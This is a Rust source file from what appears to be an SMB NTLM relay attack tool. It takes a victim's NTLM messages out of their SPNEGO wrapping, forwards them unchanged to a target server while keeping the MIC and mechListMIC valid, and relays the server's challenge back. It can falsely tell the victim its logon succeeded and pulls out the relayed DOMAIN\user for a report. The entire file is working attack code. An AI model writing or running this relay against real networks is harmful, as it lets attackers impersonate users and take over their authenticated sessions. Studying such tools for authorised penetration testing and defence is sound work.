//! The relay's view of the GSS tokens in SESSION_SETUP: it only moves NTLM messages between
//! two connections, so it unwraps them from SPNEGO on one side and wraps them again on the
//! other. The NTLM messages themselves are forwarded byte for byte (their MIC stays valid).

use anyhow::{anyhow, bail, Context};
use smb_core::auth::ntlm;
use smb_core::auth::spnego::{
    encode_mech_types, is_raw_ntlmssp, NegState, NegTokenInit, NegTokenResp, NegotiationToken,
    OID_NTLMSSP,
};

/// How the victim wrapped its NTLM message, so the answer can be wrapped the same way.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Wrapping {
    /// A bare NTLMSSP message.
    Raw,
    /// SPNEGO. `mech_types_der` is the victim's MechTypeList exactly as it sent it (its
    /// mechListMIC covers those bytes, so the target must see the same list);
    /// `mech_list_mic` is the victim's mechListMIC, which comes with its last token.
    Spnego {
        mech_types_der: Vec<u8>,
        mech_types: Vec<Vec<u8>>,
        mech_list_mic: Option<Vec<u8>>,
    },
}

/// An NTLM message taken out of a victim's SESSION_SETUP token.
#[derive(Debug, Clone)]
pub struct Unwrapped {
    pub ntlm: Vec<u8>,
    pub wrapping: Wrapping,
}

/// `ntlm` itself when it is an NTLMSSP message of the `expected` type (MS-NLMP 2.2.1).
fn checked(ntlm: Vec<u8>, expected: u32) -> anyhow::Result<Vec<u8>> {
    match ntlm::message_type(&ntlm) {
        None => bail!("not an NTLMSSP message"),
        Some(t) if t != expected => bail!("NTLM message type {t}, expected {expected}"),
        Some(_) => Ok(ntlm),
    }
}

/// Takes the NTLM message (`expected` type) out of a token the victim (initiator) sent:
/// raw NTLMSSP, a NegTokenInit with an optimistic NTLM token, or a NegTokenResp.
/// `first` is the victim's first unwrapped token, whose mechTypes the last one inherits.
pub fn unwrap_initiator(
    token: &[u8],
    expected: u32,
    first: Option<&Wrapping>,
) -> anyhow::Result<Unwrapped> {
    if is_raw_ntlmssp(token) {
        return Ok(Unwrapped {
            ntlm: checked(token.to_vec(), expected)?,
            wrapping: Wrapping::Raw,
        });
    }
    match NegotiationToken::read(token).context("victim's SPNEGO token")? {
        NegotiationToken::Init(init) => {
            if !init.offers(OID_NTLMSSP) {
                bail!("victim did not offer NTLMSSP");
            }
            if init.mech_types.first().map(Vec::as_slice) != Some(OID_NTLMSSP) {
                bail!("victim prefers another mechanism than NTLMSSP (no optimistic NTLM token)");
            }
            let ntlm = init
                .mech_token
                .ok_or_else(|| anyhow!("NegTokenInit without an NTLM token"))?;
            Ok(Unwrapped {
                ntlm: checked(ntlm, expected)?,
                wrapping: Wrapping::Spnego {
                    mech_types_der: init.mech_types_der,
                    mech_types: init.mech_types,
                    mech_list_mic: init.mech_list_mic,
                },
            })
        }
        NegotiationToken::Resp(resp) => {
            let ntlm = resp
                .response_token
                .ok_or_else(|| anyhow!("NegTokenResp without a token"))?;
            let (mech_types_der, mech_types) = match first {
                Some(Wrapping::Spnego {
                    mech_types_der,
                    mech_types,
                    ..
                }) => (mech_types_der.clone(), mech_types.clone()),
                _ => (
                    encode_mech_types(&[OID_NTLMSSP]),
                    vec![OID_NTLMSSP.to_vec()],
                ),
            };
            Ok(Unwrapped {
                ntlm: checked(ntlm, expected)?,
                wrapping: Wrapping::Spnego {
                    mech_types_der,
                    mech_types,
                    mech_list_mic: resp.mech_list_mic,
                },
            })
        }
    }
}

/// Takes the NTLM CHALLENGE out of the target's (acceptor's) token.
pub fn unwrap_acceptor(token: &[u8]) -> anyhow::Result<Vec<u8>> {
    if is_raw_ntlmssp(token) {
        return checked(token.to_vec(), ntlm::CHALLENGE_TYPE);
    }
    let resp = NegTokenResp::read(token).context("target's SPNEGO NegTokenResp")?;
    if resp.neg_state == Some(NegState::Reject) {
        bail!("target rejected the SPNEGO negotiation");
    }
    let ntlm = resp
        .response_token
        .ok_or_else(|| anyhow!("target's NegTokenResp has no token"))?;
    checked(ntlm, ntlm::CHALLENGE_TYPE)
}

/// The first token for the target: the victim's NTLM NEGOTIATE, in a NegTokenInit that
/// lists exactly the victim's mechanisms.
pub fn wrap_first_for_target(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => ntlm.to_vec(),
        Wrapping::Spnego {
            mech_types_der,
            mech_types,
            ..
        } => NegTokenInit {
            mech_types: mech_types.clone(),
            mech_types_der: mech_types_der.clone(),
            mech_token: Some(ntlm.to_vec()),
            hint_name: None,
            mech_list_mic: None,
        }
        .encode(),
    }
}

/// The last token for the target: the victim's NTLM AUTHENTICATE and its mechListMIC.
pub fn wrap_last_for_target(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => ntlm.to_vec(),
        Wrapping::Spnego { mech_list_mic, .. } => NegTokenResp {
            neg_state: None,
            supported_mech: None,
            response_token: Some(ntlm.to_vec()),
            mech_list_mic: mech_list_mic.clone(),
        }
        .encode(),
    }
}

/// The target's CHALLENGE, wrapped for the victim the way the victim wrapped its NEGOTIATE.
pub fn wrap_challenge_for_victim(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => ntlm.to_vec(),
        Wrapping::Spnego { .. } => NegTokenResp {
            neg_state: Some(NegState::AcceptIncomplete),
            supported_mech: Some(OID_NTLMSSP.to_vec()),
            response_token: Some(ntlm.to_vec()),
            mech_list_mic: None,
        }
        .encode(),
    }
}

/// The final token for the victim when the relay pretends the logon succeeded.
pub fn wrap_accept_completed(like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => Vec::new(),
        Wrapping::Spnego { .. } => NegTokenResp {
            neg_state: Some(NegState::AcceptCompleted),
            supported_mech: None,
            response_token: None,
            mech_list_mic: None,
        }
        .encode(),
    }
}

/// The security buffer of the relay's NEGOTIATE response to the victim: a NegTokenInit2
/// offering NTLMSSP, as Windows and Samba send.
pub fn negotiate_hint() -> Vec<u8> {
    NegTokenInit::server_hints(&[OID_NTLMSSP]).encode()
}

/// `DOMAIN\user` from an NTLM AUTHENTICATE message (MS-NLMP 2.2.1.3), for the report.
pub fn authenticate_user(ntlm: &[u8]) -> Option<String> {
    let auth = ntlm::AuthenticateMessage::read(ntlm).ok()?;
    Some(if auth.domain.is_empty() {
        auth.user
    } else {
        format!("{}\\{}", auth.domain, auth.user)
    })
}
